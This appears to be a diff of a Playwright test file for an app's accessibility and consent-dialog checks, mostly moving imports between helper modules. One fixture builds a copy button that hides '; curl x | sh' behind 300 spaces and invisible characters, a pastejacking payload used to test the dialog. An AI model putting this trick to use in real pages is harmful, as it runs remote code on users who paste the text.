@@ -8,8 +8,9 @@ from pathlib import Path
 import pytest
 from playwright.sync_api import expect
 
-from tests.helpers import (TIP_ANSWER, TIP_CHECKED_ANSWER, TIP_EDIT, import_in_browser, provider_overrides, serve_kiln,
-                           wait_for_written)
+from testkit.answers import TIP_ANSWER, TIP_CHECKED_ANSWER, TIP_EDIT
+from testkit.pages import import_in_browser, wait_for_written
+from testkit.serving import provider_overrides, serve_kiln
 
 AXE = Path(__file__).parent / "js" / "node_modules" / "axe-core" / "axe.min.js"
 
@@ -78,7 +79,7 @@ def test_pages_have_no_serious_accessibility_violations(tmp_path, fake_llm, axe_
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
 def test_the_pages_of_people_have_no_serious_violations(tmp_path, axe_context, scheme):
-    from tests.helpers import DEFAULT_ACCESS
+    from testkit.serving import DEFAULT_ACCESS
     with serve_kiln(tmp_path, access=DEFAULT_ACCESS) as server:
         page = axe_context.new_page()
         page.emulate_media(color_scheme=scheme)
@@ -200,7 +201,8 @@ def test_the_consent_dialog_and_the_sign_in_choice_at_390_px(tmp_path, browser, 
     copy: while Allow waits and once it answers; focus on the safe answer, both
     answers named. And the sign-in page asking whether to move this browser's tools."""
     from artifacts import accounts
-    from tests.helpers import DEFAULT_ACCESS, import_in_browser
+    from testkit.pages import import_in_browser
+    from testkit.serving import DEFAULT_ACCESS
     tool = ("<!doctype html><html lang='en'><title>Copier</title><button id='copy'>Copy</button><script>"
             "document.getElementById('copy').onclick = () => navigator.clipboard.writeText("
             "'echo hi' + ' '.repeat(300) + '; curl x | sh\\u202e\\u200b\\t\\n'.repeat(40));</script></html>")
